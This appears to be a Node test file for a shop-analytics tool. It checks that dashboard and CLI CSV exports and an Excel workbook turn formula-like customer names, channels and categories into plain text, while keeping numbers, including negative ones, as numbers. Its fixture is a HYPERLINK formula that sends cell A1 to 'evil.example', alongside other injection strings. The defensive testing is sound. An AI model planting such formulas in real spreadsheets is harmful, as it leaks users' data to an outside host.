// Formula injection end to end (issue 16): a customer named `=HYPERLINK(…)` and products and
// channels named like formulas come out of every export as text a spreadsheet will not run —
// the segment CSV of the dashboard (UTF-8 and Shift_JIS) and of the CLI writer, and the
// workbook — while numbers, negative ones included, stay numbers.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { closeStore, openStore, type Store } from '../src/store/db.js';
import { buildApp, type App } from '../src/server/app.js';
import { seedSampleBusiness, signIn, SAMPLE_AS_OF } from '../src/server/testing.js';
import { addUser, ensureUserTables } from '../src/store/users-store.js';
import { computeCheckup } from '../src/checkup/run.js';
import { loadSettings } from '../src/store/settings-store.js';
import { writeWorkbook } from '../src/outputs/workbook/index.js';
import { writeCsv } from '../src/outputs/csv-export.js';

const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"詳細")';
let store: Store;
let built: App;
let dir: string;

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'kenshin-formula-'));
  store = await openStore(':memory:');
  await seedSampleBusiness(store.conn, 200);
  await store.conn.run(`UPDATE customers SET name = $1, phone = '+81-90-1234-5678'`, [EVIL]);
  await store.conn.run(
    `UPDATE customers SET acquisition_channel = '@SUM(1+1)' WHERE acquisition_channel = 'sns'`,
  );
  await store.conn.run(`UPDATE order_items SET category = '-2+3'`);
  await ensureUserTables(store.conn);
  await addUser(store.conn, 'analyst', 'analyst-password-1', 'analyst');
  built = await buildApp({ conn: store.conn, webDir: '/nonexistent' });
});

after(async () => {
  await built.app.close();
  closeStore(store);
  await rm(dir, { recursive: true, force: true });
});

/** Returns the CSV text as records of fields. */
const records = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' });

test('the dashboard segment export neutralises a =HYPERLINK name in UTF-8 and Shift_JIS', async () => {
  const who = await signIn(built.app, 'analyst', 'analyst-password-1');
  for (const encoding of ['utf8-bom', 'sjis'] as const) {
    const res = await built.app.inject({
      method: 'GET',
      url: `/api/segments/ladder:first_purchase/export?encoding=${encoding}&lang=en`,
      headers: { cookie: who.cookie },
    });
    assert.equal(res.statusCode, 200, res.body.slice(0, 200));
    const text =
      encoding === 'sjis'
        ? iconv.decode(res.rawPayload, 'cp932')
        : res.rawPayload.toString('utf8').replace(/^\uFEFF/, '');
    const [head, ...rows] = records(text);
    const name = head.indexOf('name');
    const phone = head.indexOf('phone');
    assert.ok(name >= 0 && phone >= 0, head.join(','));
    assert.ok(rows.length > 10, `${encoding}: ${rows.length} rows`);
    for (const r of rows) {
      assert.equal(r[name], `'${EVIL}`, `${encoding}: the name is text, not a formula`);
      assert.equal(r[phone], `'+81-90-1234-5678`);
      for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${encoding}: ${cell}`);
    }
  }
});

test('the CSV writer keeps numbers and number text, negative ones included', async () => {
  const path = join(dir, 'list.csv');
  await writeCsv(
    path,
    ['id', 'name', 'amount', 'text_amount', 'tab', 'at'],
    [
      ['c1', EVIL, -1200, '-1200', '\tcmd', '@x'],
      ['c2', '+1', 3.5, '-1,200.50', '\rcmd', 'a@b'],
    ],
    'utf8',
  );
  const [, r1, r2] = records(await readFile(path, 'utf8'));
  assert.deepEqual(r1, ['c1', `'${EVIL}`, '-1200', '-1200', "'\tcmd", "'@x"]);
  assert.deepEqual(r2, ['c2', '+1', '3.5', '-1,200.50', "'\rcmd", 'a@b']);
});

test('the workbook neutralises formula-like channels and categories, numbers stay numbers', async () => {
  const report = await computeCheckup(store.conn, await loadSettings(store.conn), SAMPLE_AS_OF);
  const path = join(dir, 'kenshin.xlsx');
  await writeWorkbook(report, path, { charts: false });
  // Read back what Excel would read.
  const back = new ExcelJS.Workbook();
  await back.xlsx.readFile(path);
  const texts: string[] = [];
  let negatives = 0;
  for (const ws of back.worksheets)
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') texts.push(cell.value);
        if (typeof cell.value === 'number' && cell.value < 0) negatives++;
      }),
    );
  assert.ok(texts.includes(`'@SUM(1+1)`), 'the acquisition channel is written as neutralised text');
  assert.ok(texts.includes(`'-2+3`), 'the entry product category is written as neutralised text');
  const live = texts.filter((t) => t.includes('SUM(1+1)') || t.includes('-2+3'));
  assert.ok(
    live.every((t) => t.startsWith("'")),
    `the shop's text never starts a formula: ${live.filter((t) => !t.startsWith("'"))}`,
  );
  assert.ok(negatives > 0, 'negative numbers are still numbers');
});
